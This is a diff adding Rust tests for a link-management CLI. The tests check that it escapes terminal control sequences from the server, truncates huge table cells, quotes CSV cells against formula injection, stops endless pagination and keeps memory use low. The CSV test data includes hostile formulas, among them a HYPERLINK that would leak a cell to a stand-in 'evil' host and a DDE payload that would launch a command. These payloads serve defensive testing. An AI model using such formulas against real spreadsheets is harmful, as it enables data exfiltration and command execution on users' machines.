@@ -529,3 +529,306 @@ async fn file_parts_are_paths() {
     assert!(err.to_string().starts_with("cannot read "), "{err}");
     std::fs::remove_dir_all(&dir).ok();
 }
+
+// -------------------------------------------------------------- hostile server text
+
+/// A name that would set the terminal title, ring the bell, start a CSI sequence through
+/// the C1 control `U+009B` and reverse the text after it (`U+202E`).
+const HOSTILE: &str = "\u{1b}]0;pwned\u{7}\u{9b}31m\u{202e}txt.exe";
+
+fn named(slug: &str, name: &str) -> Value {
+    let mut link = link(slug);
+    link["name"] = json!(name);
+    link
+}
+
+#[tokio::test]
+async fn server_text_is_escaped_in_tables_and_json() {
+    let page = json!({"data": [named("a", HOSTILE)], "meta": {"currentPage": 1, "totalPages": 1}});
+    let server = answering(ResponseTemplate::new(200).set_body_json(page)).await;
+
+    let table = run(&server, &["links", "list", "--output", "table"]).await;
+    assert_eq!(
+        table,
+        "dynamic_link_id  name                                         type     full_dynamic_url\n\
+         a                \\u{1b}]0;pwned\\u{7}\\u{9b}31m\\u{202e}txt.exe  website  https://qr-lb.co/a\n"
+    );
+    let json = run(&server, &["links", "list"]).await;
+    assert!(
+        json.contains(r#""name":"\u001b]0;pwned\u0007\u009b31m\u202etxt.exe""#),
+        "{json}"
+    );
+    for out in [&table, &json] {
+        assert!(
+            !out.contains(['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}']),
+            "{out:?}"
+        );
+    }
+    // Escaped, the JSON still holds the server's exact text.
+    let parsed: Value = serde_json::from_str(&json).unwrap();
+    assert_eq!(parsed["items"][0]["name"], HOSTILE);
+}
+
+/// One 100,000-character name in a 1,000-row page used to pad every row to its width
+/// (100 MB of spaces); cells are cut at 60 characters.
+#[tokio::test]
+async fn a_huge_value_does_not_widen_every_row_of_a_table() {
+    let huge = "x".repeat(100_000);
+    let rows: Vec<Value> = (0..1000)
+        .map(|i| named(&format!("l-{i}"), if i == 500 { &huge } else { "n" }))
+        .collect();
+    let page = json!({"data": rows, "meta": {"currentPage": 1, "totalPages": 1}});
+    let server = answering(ResponseTemplate::new(200).set_body_json(page)).await;
+
+    let table = run(&server, &["links", "list", "--output", "table"]).await;
+    let lines: Vec<&str> = table.lines().collect();
+    assert_eq!(lines.len(), 1001);
+    let cut = format!("{}…", "x".repeat(59));
+    assert_eq!(
+        lines[501],
+        format!("l-500            {cut}  website  https://qr-lb.co/l-500")
+    );
+    assert_eq!(
+        lines[1],
+        format!(
+            "l-0              n{}  website  https://qr-lb.co/l-0",
+            " ".repeat(59)
+        )
+    );
+    assert!(table.len() < 120_000, "{} bytes", table.len());
+    // CSV is data: the whole value.
+    let csv = run(&server, &["links", "list", "--output", "csv"]).await;
+    assert!(csv.contains(&format!("l-500,{huge},website")));
+}
+
+/// OWASP's rule against CSV injection: text starting with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return gets a leading `'`, in `--output csv` of a page and of `--all`.
+#[tokio::test]
+async fn csv_cells_that_a_spreadsheet_would_run_start_with_a_quote() {
+    let names = [
+        r#"=HYPERLINK("http://evil/?"&A1,"x")"#,
+        "+1",
+        "-1",
+        "@SUM(A1)",
+        "\tx",
+        "\rx",
+        "a=b",
+    ];
+    let mut rows: Vec<Value> = names
+        .iter()
+        .enumerate()
+        .map(|(i, name)| named(&format!("l{i}"), name))
+        .collect();
+    rows[1]["dynamic_link_id"] = json!("-l1");
+    rows[2]["full_dynamic_url"] = json!("=cmd|' /C calc'!A0");
+    let page = json!({"data": rows, "meta": {"currentPage": 1, "totalPages": 1}});
+    let server = answering(ResponseTemplate::new(200).set_body_json(page)).await;
+
+    let expected = "dynamic_link_id,name,type,full_dynamic_url\n\
+         l0,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",website,https://qr-lb.co/l0\n\
+         '-l1,'+1,website,https://qr-lb.co/l1\n\
+         l2,'-1,website,'=cmd|' /C calc'!A0\n\
+         l3,'@SUM(A1),website,https://qr-lb.co/l3\n\
+         l4,'\tx,website,https://qr-lb.co/l4\n\
+         l5,\"'\rx\",website,https://qr-lb.co/l5\n\
+         l6,a=b,website,https://qr-lb.co/l6\n";
+    assert_eq!(
+        run(&server, &["links", "list", "--output", "csv"]).await,
+        expected
+    );
+    let all = run(&server, &["links", "list", "--all", "--output", "csv"]).await;
+    assert_eq!(all, expected);
+}
+
+// ------------------------------------------------------------------- endless pages
+
+/// Every page full and new, and always "more to come": `--all` stops at the client's
+/// page limit with an error (exit 1) after printing those pages.
+#[tokio::test]
+async fn all_stops_at_the_page_limit_of_the_client() {
+    let server = MockServer::start().await;
+    Mock::given(method("GET"))
+        .and(path("/links"))
+        .respond_with(|request: &Request| {
+            let page: i64 = request
+                .url
+                .query_pairs()
+                .find(|(k, _)| k == "page")
+                .and_then(|(_, v)| v.parse().ok())
+                .unwrap_or(1);
+            ResponseTemplate::new(200).set_body_json(page_of(
+                &[&format!("p{page}")],
+                page,
+                i64::MAX,
+            ))
+        })
+        .mount(&server)
+        .await;
+    let client = Client::builder()
+        .credential(KEY)
+        .base_url(server.uri())
+        .max_pages(3)
+        .build()
+        .unwrap();
+    let matches = parse(&["links", "list", "--all", "--output", "csv"]).unwrap();
+    let mut out = Vec::new();
+    let err = cli::run(&client, &matches, &Options::new(), &mut out)
+        .await
+        .unwrap_err();
+    assert!(
+        matches!(
+            err,
+            CliError::Api(prolinksqr::Error::TooManyPages { limit: 3 })
+        ),
+        "{err:?}"
+    );
+    assert_eq!(err.exit_code(), 1);
+    assert_eq!(
+        String::from_utf8(out).unwrap(),
+        "dynamic_link_id,name,type,full_dynamic_url\n\
+         p1,p1,website,https://qr-lb.co/p1\n\
+         p2,p2,website,https://qr-lb.co/p2\n\
+         p3,p3,website,https://qr-lb.co/p3\n"
+    );
+    let pages: Vec<Option<String>> = server
+        .received_requests()
+        .await
+        .unwrap()
+        .iter()
+        .map(|r| r.url.query().map(str::to_owned))
+        .collect();
+    assert_eq!(
+        pages,
+        [
+            Some("page=1".into()),
+            Some("page=2".into()),
+            Some("page=3".into())
+        ]
+    );
+}
+
+/// A server that ignores `page` and serves the first page forever: the stream ends at
+/// the first repeat.
+#[tokio::test]
+async fn all_stops_when_a_page_repeats() {
+    let server =
+        answering(ResponseTemplate::new(200).set_body_json(page_of(&["a", "b"], 1, i64::MAX)))
+            .await;
+    let csv = run(&server, &["links", "list", "--all", "--output", "csv"]).await;
+    assert_eq!(
+        csv,
+        "dynamic_link_id,name,type,full_dynamic_url\n\
+         a,a,website,https://qr-lb.co/a\nb,b,website,https://qr-lb.co/b\n"
+    );
+    assert_eq!(server.received_requests().await.unwrap().len(), 2);
+}
+
+// ------------------------------------------------------------------ memory of a page
+
+/// Counts the heap bytes live on each thread (a thread's frees of another thread's memory
+/// count against it, so the numbers are per-thread approximations): the CLI decodes and
+/// prints on the test's thread (`#[tokio::test]` runs one), so its peak is what printing
+/// a page costs.
+mod heap {
+    use std::alloc::{GlobalAlloc, Layout, System};
+    use std::cell::Cell;
+
+    pub struct Counting;
+
+    thread_local! {
+        static LIVE: Cell<i64> = const { Cell::new(0) };
+        static PEAK: Cell<i64> = const { Cell::new(0) };
+    }
+
+    fn change(by: i64) {
+        let live = LIVE.get() + by;
+        LIVE.set(live);
+        PEAK.set(PEAK.get().max(live));
+    }
+
+    /// The peak of this thread's live heap bytes while `run` runs, above where it started.
+    pub fn peak_of<R>(run: impl FnOnce() -> R) -> (R, i64) {
+        let start = LIVE.get();
+        PEAK.set(start);
+        let result = run();
+        (result, PEAK.get() - start)
+    }
+
+    fn size(layout: Layout) -> i64 {
+        i64::try_from(layout.size()).unwrap_or(i64::MAX)
+    }
+
+    // SAFETY: every method forwards to `System` unchanged and only updates counters.
+    unsafe impl GlobalAlloc for Counting {
+        unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
+            // SAFETY: forwarded with the caller's guarantees.
+            let ptr = unsafe { System.alloc(layout) };
+            if !ptr.is_null() {
+                change(size(layout));
+            }
+            ptr
+        }
+
+        unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
+            // SAFETY: forwarded with the caller's guarantees.
+            unsafe { System.dealloc(ptr, layout) };
+            change(-size(layout));
+        }
+
+        unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
+            // SAFETY: forwarded with the caller's guarantees.
+            let new = unsafe { System.realloc(ptr, layout, new_size) };
+            if !new.is_null() {
+                change(i64::try_from(new_size).unwrap_or(i64::MAX) - size(layout));
+            }
+            new
+        }
+    }
+}
+
+#[global_allocator]
+static HEAP: heap::Counting = heap::Counting;
+
+/// A table or CSV of a large page costs about what its JSON output does: rows are made
+/// one at a time from the result's JSON text, not from a tree of JSON values of the
+/// whole page plus every cell as text (which cost several times the page before).
+#[test]
+fn a_large_page_prints_as_a_table_or_csv_in_about_the_memory_of_json() {
+    let rows: Vec<Value> = (0..20_000)
+        .map(|i| {
+            named(
+                &format!("l-{i}"),
+                &format!("Link number {i} with a longer name"),
+            )
+        })
+        .collect();
+    let page = json!({"data": rows, "meta": {"currentPage": 1, "totalPages": 1}});
+    let body = serde_json::to_vec(&page).unwrap();
+    let runtime = tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()
+        .unwrap();
+    let server = runtime.block_on(answering(
+        ResponseTemplate::new(200).set_body_raw(body.clone(), "application/json"),
+    ));
+    let peak = |format: &str| {
+        let matches = parse(&["links", "list", "--output", format]).unwrap();
+        let client = client(&server);
+        let (written, peak) = heap::peak_of(|| {
+            let mut out = std::io::sink();
+            runtime.block_on(cli::run(&client, &matches, &Options::new(), &mut out))
+        });
+        written.unwrap();
+        peak
+    };
+    let json = peak("json");
+    let body = i64::try_from(body.len()).unwrap();
+    for format in ["table", "csv"] {
+        let used = peak(format);
+        println!("{format}: peak {used} bytes; json: {json}; body {body}");
+        assert!(
+            used < json + 2 * body,
+            "{format} took {used} bytes at its peak, json {json}, the body is {body}"
+        );
+    }
+}
